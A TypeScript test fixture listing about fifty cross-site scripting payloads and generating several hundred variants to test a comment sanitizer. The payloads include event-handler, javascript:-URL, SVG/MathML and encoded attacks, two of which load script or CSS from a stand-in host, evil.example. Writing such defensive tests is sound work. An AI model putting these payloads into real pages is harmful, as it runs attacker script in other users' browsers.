/*
 * Hostile input for comment tests, written for the project from the known classes of XSS.
 * BASE_PAYLOADS is one of each; XSS_PAYLOADS (over 300) puts each in the places a commenter
 * can put it: as typed, with its tag names in capitals, with a line break or a tab inside a
 * tag, inside the subset's markers (**strong**, *emphasis*, `code`, a link's text, a quote),
 * entity-encoded, and padded so a length limit (80 for a name) cuts through it.
 */

// The known classes: script, event handlers, javascript:/data: URLs, SVG and MathML, CSS,
// mutation XSS, encoded forms, attribute breakouts, and payloads split across the subset's markers.
export const BASE_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><button formaction=javascript:alert(1)>x</button></form>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '<img src="x" onerror="&#97;lert(1)">',
  '<details open ontoggle=alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:/">',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '[x](https://a.example/"onmouseover="alert(1))',
  '[x](https://a.example/\'onmouseover=\'alert(1))',
  'https://a.example/"><script>alert(1)</script>',
  'https://a.example/<img src=x onerror=alert(1)>',
  '[<img src=x onerror=alert(1)>](https://a.example/)',
  '**<script>**alert(1)**</script>**',
  '*<img src=x onerror=alert(1)>*',
  '`<script>alert(1)</script>`',
  '> <script>alert(1)</script>',
  '[x](javascript:alert(1)//https://a.example)',
  '<a href="https://a.example" onclick="alert(1)">x</a>',
  '<p onclick=alert(1)>x</p>',
  '<br onmouseover=alert(1)>',
  '<code onmouseover=alert(1)>x</code>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<strong style="position:fixed">x</strong>',
  '<x onclick=alert(1)>x</x>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<img srcset="x 1x, javascript:alert(1) 2x">',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<video><source onerror=alert(1)></video>',
];

const PLACES: readonly ((p: string) => string)[] = [
  (p) => p,
  (p) => p.replace(/<(\/?)([a-z]+)/g, (_m, slash: string, tag: string) => `<${slash}${tag.toUpperCase()}`),
  (p) => p.replace(/<([a-z]+) /i, '<$1\n'),
  (p) => p.replace(/<([a-z]+) /i, '<$1\t'),
  (p) => `**${p}**`,
  (p) => `[${p}](https://news.example.org/)`,
  (p) => `> ${p}`,
  (p) => `${'x'.repeat(Math.max(0, 80 - Math.floor(p.length / 2)))}${p}`,
];

/** Every base payload in every place, each once. */
export const XSS_PAYLOADS: readonly string[] = [...new Set(BASE_PAYLOADS.flatMap((p) => PLACES.map((place) => place(p))))];
